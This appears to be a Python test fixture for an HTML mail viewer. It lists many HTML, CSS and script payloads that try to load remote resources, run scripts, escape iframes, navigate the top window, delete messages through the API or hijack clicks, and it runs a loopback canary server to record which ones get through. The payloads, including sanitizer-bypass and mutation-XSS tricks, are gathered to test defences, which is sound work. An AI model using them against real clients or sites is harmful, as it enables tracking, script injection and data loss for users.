"""HTML mail that wants to run, to phone home and to get out of its frame, and who hears of it.

Each attempt asks ``AT/NAME`` of the canary; ``NEAR`` is the canary at the page's own host, ``FAR``
at another; ``/api/hit/NAME`` is asked of whoever served the HTML.
"""

import contextlib
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

LOADS = """
<link rel="stylesheet" href="NEAR/link-stylesheet">
<link rel="prefetch" href="NEAR/link-prefetch">
<link rel="preload" as="image" href="FAR/link-preload">
<link rel="modulepreload" href="NEAR/link-modulepreload">
<link rel="icon" href="FAR/link-icon">
<link rel="dns-prefetch" href="FAR"><link rel="preconnect" href="NEAR">
<style>
@import "NEAR/css-import";
@import url(FAR/css-import-url);
@\\69mport "NEAR/css-import-escaped";
@font-face { font-family: evil; src: url(NEAR/css-font) }
.font { font-family: evil }
.background { background: url(FAR/css-background) }
.escaped { background: u\\72l("NEAR/css-escaped") }
.set { background: image-set("FAR/css-image-set" 1x) }
.border { border: 3px solid; border-image: url(NEAR/css-border) 1 }
.list { list-style: url(FAR/css-list) } .list::marker { color: red }
.before::before { content: url(NEAR/css-content) }
.mask { mask-image: url(FAR/css-mask) }
.shape { float: left; shape-outside: url(NEAR/css-shape) }
</style>
<p class="font">font</p><p class="background">b</p><p class="escaped">e</p><p class="set">s</p>
<p class="border">b</p><ul><li class="list">l</ul><p class="before"></p><p class="mask">m</p>
<p class="shape">s</p><p style="background: url(NEAR/style-attribute)">a</p>
<table background="NEAR/table-background"><tr><td background="FAR/cell-background">t</table>
<img src="NEAR/img"><img srcset="FAR/img-srcset 1x"><img src="/api/hit/img">
<img src=//NEAR_HOST/img-no-scheme><img src="HTTP:NEAR_BARE/img-odd-scheme">
<img
src	=
"&#104;ttp:NEAR_BARE/img-entities">
<image src="NEAR/image"><input type="image" src="FAR/input-image">
<picture><source srcset="FAR/picture-source"><img></picture>
<video src="NEAR/video" poster="FAR/poster"></video><audio src="FAR/audio" autoplay></audio>
<video><source src="NEAR/video-source"></video>
<video autoplay><track default src="/api/hit/track"></video>
<iframe src="NEAR/iframe"></iframe><iframe srcdoc="<img src=FAR/iframe-srcdoc>"></iframe>
<object data="NEAR/object"></object><embed src="FAR/embed">
<svg width="9" height="9"><image href="NEAR/svg-image" width="9" height="9"/></svg>
<svg width="9" height="9"><image xlink:href="FAR/svg-xlink" width="9" height="9"/></svg>
<svg><use href="/api/hit/svg-use#a"/></svg>
<svg width="9" height="9"><foreignObject width="9" height="9"><img src="NEAR/svg-foreign"/>
</foreignObject></svg>
<svg><style>@import "FAR/svg-style";</style></svg>
<svg width="9" height="9"><filter id="f"><feImage href="NEAR/svg-filter"/></filter>
<rect filter="url(#f)" width="9" height="9"/></svg>
<math><mtext><mglyph><style><!--</style><img src="FAR/mutation-math">--></style></mtext></math>
<p title="</p><img src=NEAR/img-in-title>"><img src="FAR/img-behind-quote" title=">"</p>
<![CDATA[><img src="NEAR/img-in-cdata">]]>
<!--><img src="FAR/img-behind-comment"><!-- --!><img src="NEAR/img-behind-odd-comment">
<xmp><p title="</xmp><img src=FAR/img-behind-xmp>"></xmp>
<style><p title="</style><img src=NEAR/img-behind-style>"></style>
"""
"""What loads by itself, in each way that HTML knows."""

WITHOUT_SCRIPTS = """
<noscript><img src="NEAR/noscript-img">
<style>@import "NEAR/noscript-style";</style></noscript>
"""
"""What counts only where scripts do not."""

SCRIPTS = """
<script src="NEAR/script"></script><script type="module" src="FAR/script-module"></script>
<script>
try { parent.document.title = top.document.title = "owned" } catch {}
new Image().src = "NEAR/script-image";
fetch("FAR/script-fetch").catch(() => 0);
fetch("/api/hit/script-fetch").catch(() => 0);
fetch("/api/messages", { method: "DELETE" }).catch(() => 0);
navigator.sendBeacon("NEAR/script-beacon");
new EventSource("FAR/script-events");
new WebSocket("FAR/script-socket".replace("http", "ws"));
setTimeout("new Image().src = 'FAR/script-eval'");
import("FAR/script-import").catch(() => 0);
parent.postMessage({ hit: 1 }, "*");
</script>
<body onload="new Image().src = 'NEAR/on-load'" onpageshow="new Image().src = 'FAR/on-show'">
<img src="data:," onerror="new Image().src = 'NEAR/on-error'">
<svg onload="new Image().src = 'FAR/on-svg-load'">
<script>new Image().src = "NEAR/svg-script"</script>
<animate attributeName="x" dur="1ms" onbegin="new Image().src = 'FAR/on-begin'"/></svg>
<details open ontoggle="new Image().src = 'NEAR/on-toggle'"><summary>s</summary>d</details>
<p style="animation: a 1ms" onanimationstart="new Image().src = 'FAR/on-animation'">a</p>
<style>@keyframes a { to { color: red } }</style>
<input autofocus onfocus="new Image().src = 'NEAR/on-focus'">
<iframe src="javascript:void(new Image().src = 'FAR/frame-script')"></iframe>
<iframe srcdoc="<script>new Image().src = 'NEAR/frame-srcdoc-script'</script>"></iframe>
<iframe src="data:text/html,<script>new Image().src = 'FAR/frame-data-script'</script>"></iframe>
<object data="data:text/html,<script>new Image().src = 'NEAR/object-script'</script>"></object>
<embed src="data:text/html,<script>new Image().src = 'FAR/embed-script'</script>">
<scr<script>ipt>new Image().src = 'NEAR/script-twice'</script>
<img src="data:," alt="`><script>new Image().src = 'FAR/script-in-alt'</script>"
onerror=new&#32;Image().src='NEAR/on-error-entities'>
<style><!--</style><script>new Image().src = "FAR/script-behind-style"</script>
<textarea><p title="</textarea><script>new Image().src = 'NEAR/script-behind-textarea'</script>">
"""
"""What runs by itself."""

HOPES = {"img-in-title", "script-in-alt", "script-twice"}
"""What is text, where HTML is read as the standard says."""

LEAVES = {
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=NEAR/meta-refresh">',
    "base": '<base href="FAR/far/"><img src="base">',
    "form-script": '<form id="f" action="NEAR/form-script" method="post"></form>'
    "<script>f.submit()</script>",
    "top": "<script>top.location = 'FAR/top'</script>",
    "self": "<script>location = 'NEAR/self'</script>",
    "window": "<script>open('FAR/window'); open('FAR/window', '_top')</script>",
    "set-cookie": '<meta http-equiv="set-cookie" content="a=b">'
    '<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="NEAR/set-cookie">',
}
"""What goes elsewhere by itself; each in a mail of its own."""

ALL_OF_IT = 'style="position: fixed; inset: 0; display: block; width: 100%; height: 100%"'
CLICKED = {
    "link": f'<a {ALL_OF_IT} href="NEAR/link">go</a>',
    "link-blank": f'<a {ALL_OF_IT} target="_blank" href="FAR/link-blank">go</a>',
    "link-top": f'<a {ALL_OF_IT} target="_top" href="NEAR/link-top">go</a>',
    "link-based": f'<base target="_parent" href="FAR"><a {ALL_OF_IT} href="/link-based">go</a>',
    "link-ping": f'<a {ALL_OF_IT} ping="NEAR/link-ping" href="#a">go</a>',
    "link-script": f"""<a {ALL_OF_IT} href="java&#9;script:location = 'FAR/link-script'">go</a>""",
    "link-download": f'<a {ALL_OF_IT} download href="NEAR/link-download">go</a>',
    "link-near": f'<a {ALL_OF_IT} href="/api/hit/link-near">go</a>',
    "link-svg": f'<svg {ALL_OF_IT}><a href="FAR/link-svg"><rect width="9999" height="9999"/></a>',
    "form": f'<form action="NEAR/form"><button {ALL_OF_IT} name="a">go</button></form>',
    "form-post": '<form method="post" action="FAR/form-post" target="_blank">'
    f'<input type="submit" {ALL_OF_IT}></form>',
    "form-action": f'<form><button {ALL_OF_IT} formaction="NEAR/form-action">go</button></form>',
    "form-near": f'<form action="/api/hit/form-near"><button {ALL_OF_IT}>go</button></form>',
    "on-click": f"""<p {ALL_OF_IT} onclick="new Image().src = 'FAR/on-click'">go</p>""",
}
"""What wants a click; each in a mail of its own."""


def attempts(html):
    """Give the names that a canary would hear."""
    return set(re.findall(r"(?:NEAR|FAR|NEAR_BARE|NEAR_HOST|/api/hit)/([a-z-]+)", html))


class Canary:
    """A server at two addresses of loopback that notes who asks for what; answers all."""

    def __init__(self):
        self.heard = []
        self.connections = 0
        self.pages = {}
        self._servers = [self._serve() for _ in range(2)]
        self.near = f"http://127.0.0.1:{self._servers[0].server_port}"
        self.far = f"http://localhost:{self._servers[1].server_port}"

    def _serve(canary):
        class Visit(BaseHTTPRequestHandler):
            timeout = 2

            def setup(self):
                canary.connections += 1
                super().setup()

            def do_GET(self):
                page = canary.pages.get(self.path)
                if page is None:
                    canary.heard.append(self.path.rpartition("/")[2].partition("?")[0])
                self.send_response(200)
                self.send_header("Content-Type", KINDS.get(self.path[-3:], "text/html"))
                self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write((page or "").encode())

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_):
                """Say nothing."""

        server = ThreadingHTTPServer(("127.0.0.1", 0), Visit)
        server.handle_error = lambda *_: None
        threading.Thread(target=server.serve_forever, args=[0.02], name="canary").start()
        return server

    def aimed(self, html):
        """Give the HTML with the canary's addresses in it."""
        near_bare = self.near.partition(":")[2]
        for name, address in {
            "NEAR_HOST": near_bare[2:],
            "NEAR_BARE": near_bare,
            "NEAR": self.near,
            "FAR": self.far,
        }.items():
            html = html.replace(name, address)
        return html

    def serve(self, html):
        """Serve a page without any fence; give its address."""
        path = f"/page-{len(self.pages)}"
        self.pages[path] = self.aimed(html)
        return self.near + path

    def close(self):
        for server in self._servers:
            server.shutdown()
            with contextlib.suppress(OSError):
                server.server_close()


KINDS = {"css": "text/css"}
